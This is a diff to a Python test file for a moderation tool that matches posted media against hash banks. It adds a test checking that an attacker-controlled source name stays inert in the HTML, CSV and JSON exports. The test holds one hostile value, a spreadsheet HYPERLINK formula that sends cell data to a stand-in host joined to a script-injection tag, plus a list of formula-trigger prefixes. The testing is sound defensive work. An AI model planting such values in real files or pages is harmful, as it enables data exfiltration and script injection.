@@ -5,6 +5,7 @@ from __future__ import annotations
 
 import asyncio
 import csv
+import html
 import io
 import json
 import os
@@ -12,7 +13,7 @@ import shutil
 import sqlite3
 import statistics
 import subprocess
-from dataclasses import dataclass
+from dataclasses import dataclass, replace
 from datetime import datetime
 from html.parser import HTMLParser
 from pathlib import Path
@@ -268,3 +269,72 @@ async def test_html_report_renders_in_chromium_with_the_audit_logs_numbers(
         pixels = np.asarray(image.convert("RGB"))
     bar_pixels = int(np.all(pixels == (0x3B, 0x6E, 0xA5), axis=-1).sum())
     assert bar_pixels > 500
+
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1)"><script>alert(1)</script>'
+
+
+class _Elements(HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: list[str] = []
+        self.attributes: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append(tag)
+        self.attributes += [name for name, _value in attrs]
+
+
+async def test_hostile_strings_come_out_inert_in_every_output_format(
+        sandbox: Sandbox, bot_token: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    from fedimod.match import parse_bank_lines
+    from fedimod.media import hash_media
+
+    db = tmp_path / "f.sqlite3"
+    # A feed source names itself: its text is the attacker's, and it reaches every output.
+    lines = [f"{s.signal_type} {s.value:0{64 if s.signal_type == 'pdq' else 32}x} csam"
+             for s in hash_media(jpeg_bytes(CSAM_IMAGE)).signals if s.signal_type in ("pdq", "md5")]
+    rows = [replace(r, source=HOSTILE) for r in parse_bank_lines(lines)]
+    async with SQLiteStore.open(db) as store:
+        await store.add_bank_entries("hub", rows)
+    user = sandbox.create_account("mallory")[0]
+    async with running(make_config(sandbox, bot_token, db), sandbox) as pipeline:
+        matched = sandbox.post_status(user.id, "x", media=[altered_copy(CSAM_IMAGE, 0.5)])
+        broken = sandbox.post_status(user.id, "y", media=[jpeg_bytes(generate_image(9))])
+        sandbox.fail_media[broken.media_ids[0]] = 404
+        await wait_until(lambda: len(sandbox.reports) == 1, what="the report")
+
+        async def failed() -> bool:
+            async with SQLiteStore.open(db) as store:
+                return (await store.counts()).jobs_by_state.get("failed") == 1
+        await wait_until(failed, what="the broken download given up")
+        assert pipeline.stats.matches >= 1
+    config = write_config(tmp_path, sandbox, db)
+
+    code, page, _ = await cli(capsys, "report", "--since", "1d", "--format", "html", "-c", str(config))
+    assert code == 0 and HOSTILE not in page and "<script>" not in page
+    parsed = _Elements()
+    parsed.feed(page)
+    assert "script" not in parsed.tags and all(not a.startswith("on") for a in parsed.attributes)
+    assert html.escape(HOSTILE) in page  # shown, as text
+
+    code, text, _ = await cli(capsys, "audit", "--format", "csv", "-c", str(config))
+    assert code == 0
+    for row in csv.reader(io.StringIO(text)):
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    code, exported, _ = await cli(capsys, "bank", "export", "--bank", "hub", "--format", "te_csv", "-c", str(config))
+    cells = [cell for row in csv.reader(io.StringIO(exported)) for cell in row]
+    assert "'" + HOSTILE in cells and HOSTILE not in cells
+    (tmp_path / "round.csv").write_text(exported)
+    code, _, _ = await cli(capsys, "bank", "import", str(tmp_path / "round.csv"), "--bank", "again", "-c", str(config))
+    async with SQLiteStore.open(db) as store:
+        assert {e.source for e in await store.bank_entries(bank="again")} == {HOSTILE}  # read back as written
+
+    for status in (matched, broken):
+        out_file = tmp_path / f"incident-{status.id}.json"
+        code, _, _ = await cli(capsys, "incident", "export", str(status.id), "-c", str(config), "-o", str(out_file))
+        assert code == 0
+        raw = out_file.read_text()
+        assert sandbox.base_url + "/system" not in raw and "/media" not in raw.replace("/media_", ""), raw
+    code, audit_json, _ = await cli(capsys, "audit", "--format", "json", "-c", str(config))
+    assert "/system/" not in audit_json
